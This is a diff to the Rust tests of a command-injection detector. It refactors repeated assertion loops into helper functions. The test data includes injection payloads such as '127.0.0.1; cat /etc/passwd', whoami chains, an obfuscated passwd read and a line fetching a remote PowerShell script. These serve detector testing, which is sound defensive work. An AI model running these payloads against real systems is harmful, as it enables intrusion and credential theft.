@@ -1811,9 +1811,27 @@ fn arg_like(rest: &[u8]) -> bool {
 mod tests {
     use super::detect;
 
+    fn assert_flagged(values: &[&str]) {
+        for s in values {
+            assert!(
+                detect(s.as_bytes()).is_some(),
+                "{s} should be command injection"
+            );
+        }
+    }
+
+    fn assert_clean(values: &[&str]) {
+        for s in values {
+            assert!(
+                detect(s.as_bytes()).is_none(),
+                "{s} should not be command injection"
+            );
+        }
+    }
+
     #[test]
     fn commands_in_shell_context_are_flagged() {
-        for s in [
+        assert_flagged(&[
             "127.0.0.1; cat /etc/passwd",
             "x|id",
             "a && whoami",
@@ -1830,17 +1848,12 @@ mod tests {
             "'wh'oami",
             "for /f %a in ('dir /b') do echo %a",
             "x;iwr http://x/a.ps1",
-        ] {
-            assert!(
-                detect(s.as_bytes()).is_some(),
-                "{s} should be command injection"
-            );
-        }
+        ]);
     }
 
     #[test]
     fn shell_only_syntax_is_flagged() {
-        for s in [
+        assert_flagged(&[
             "x=$[2+2]",
             "x=$((1+1))",
             "x=${path#{}/}",
@@ -1859,17 +1872,12 @@ mod tests {
             "x=cat /[e//]tc/[p//]asswd",
             "x=sh$xx -c whoami",
             "x=${shell} -c \"echo hi\"",
-        ] {
-            assert!(
-                detect(s.as_bytes()).is_some(),
-                "{s} should be command injection"
-            );
-        }
+        ]);
     }
 
     #[test]
     fn look_alikes_of_shell_syntax_are_not_flagged() {
-        for s in [
+        assert_clean(&[
             "filter=$[0].name",
             "fields={id,name}",
             "tags={\"a\",\"b\"}",
@@ -1882,17 +1890,12 @@ mod tests {
             "price=$5 off",
             "q=time for a change",
             "q=if you exist",
-        ] {
-            assert!(
-                detect(s.as_bytes()).is_none(),
-                "{s} should not be command injection"
-            );
-        }
+        ]);
     }
 
     #[test]
     fn code_injection_and_escaped_substitutions_are_flagged() {
-        for s in [
+        assert_flagged(&[
             "eval('echo xxxxxxxx')",
             "exec('echo 1')",
             ";{$_get[\"cmd\"]}",
@@ -1903,30 +1906,20 @@ mod tests {
             "q=|| ",
             "q=\n\n",
             "`",
-        ] {
-            assert!(
-                detect(s.as_bytes()).is_some(),
-                "{s} should be command injection"
-            );
-        }
-        for s in [
+        ]);
+        assert_clean(&[
             "evaluate('echo chamber')",
             "price=$_99",
             "cost \\$5",
             "q=",
             "q= ",
             "a|b",
-        ] {
-            assert!(
-                detect(s.as_bytes()).is_none(),
-                "{s} should not be command injection"
-            );
-        }
+        ]);
     }
 
     #[test]
     fn english_and_ordinary_values_are_not_flagged() {
-        for s in [
+        assert_clean(&[
             "tom & jerry",
             "cats | dogs",
             "see; more info",
@@ -1938,11 +1931,6 @@ mod tests {
             "o'keefe's cafe",
             "for the win in (a way) do it",
             "1; exec will create the case 7",
-        ] {
-            assert!(
-                detect(s.as_bytes()).is_none(),
-                "{s} should not be command injection"
-            );
-        }
+        ]);
     }
 }
